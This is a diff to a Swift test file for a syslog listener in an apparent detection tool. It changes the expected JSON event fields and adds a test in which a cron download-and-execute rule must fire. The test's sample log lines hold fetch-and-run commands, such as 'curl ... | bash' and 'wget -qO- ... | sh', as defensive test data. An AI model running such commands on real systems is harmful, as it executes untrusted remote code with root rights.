@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import TocsinDetection
 
 @testable import TocsinServer
 
@@ -106,16 +107,36 @@ struct SyslogMessageTests {
         ).get()
         let json = message.eventJSON()
         #expect(
-            json == #"{"Facility":20,"Severity":5,"Timestamp":"2026-11-20T09:00:00Z","Hostname":"h","AppName":"a","#
-                + #""ProcessID":"1","MsgID":"m","StructuredData":{"x@1":{"k":"v\"q"}},"#
-                + #""Message":"say \"hi\"\t{not json","SyslogFormat":"rfc5424"}"#)
-        #expect(jsonObject(json)["Message"] as? String == "say \"hi\"\t{not json")
+            json == #"{"timestamp":"2026-11-20T09:00:00Z","host":"h","service":"syslog","program":"a","pid":1,"#
+                + #""msgid":"m","facility":"local4","severity":"notice","structured_data":{"x@1":{"k":"v\"q"}},"#
+                + #""message":"say \"hi\"\t{not json","syslog_format":"rfc5424"}"#)
+        #expect(jsonObject(json)["message"] as? String == "say \"hi\"\t{not json")
     }
 
     @Test func controlCharactersAndInvalidUTF8StillGiveValidJSON() throws {
         let message = try SyslogMessage.parse(Array("<13>Oct 11 22:14:15 host app: a\u{1}b".utf8) + [0xFF]).get()
         let event = jsonObject(message.eventJSON())
-        #expect(event["Message"] as? String == "a\u{1}b\u{FFFD}")
-        #expect(event["Hostname"] as? String == "host")
+        #expect(event["message"] as? String == "a\u{1}b\u{FFFD}")
+        #expect(event["host"] as? String == "host")
+    }
+
+    @Test func aCronLineOverSyslogFiresThePacksCronRule() throws {
+        // The rule pack's own file, read from the source tree: its fields are what the listener must produce.
+        let rulePath = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .deletingLastPathComponent().appendingPathComponent(
+                "Sources/TocsinCommands/Resources/rules/linux/persistence/cron_download_execute_syslog.yml")
+        let parsed = RuleParser.parse(try String(contentsOf: rulePath, encoding: .utf8), path: rulePath.path)
+        #expect(parsed.rules.count == 1)
+        let engine = DetectionEngine(rules: parsed.rules, pipeline: try Pipeline.builtinWindows())
+        let worker = engine.makeWorker()
+        func fires(_ line: String) throws -> Bool {
+            var event = try SyslogMessage.parse(Array(line.utf8)).get().eventJSON()
+            var fired: [Int] = []
+            try event.withUTF8 { try worker.match($0, into: &fired) }
+            return !fired.isEmpty
+        }
+        #expect(try fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://203.0.113.9/u.sh | bash)"))
+        #expect(try fires("<78>1 2026-11-20T09:00:00Z db01 cron 4242 - - (root) CMD (wget -qO- http://x/u | sh)"))
+        #expect(try !fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://x/u | sha256sum)"))
     }
 }
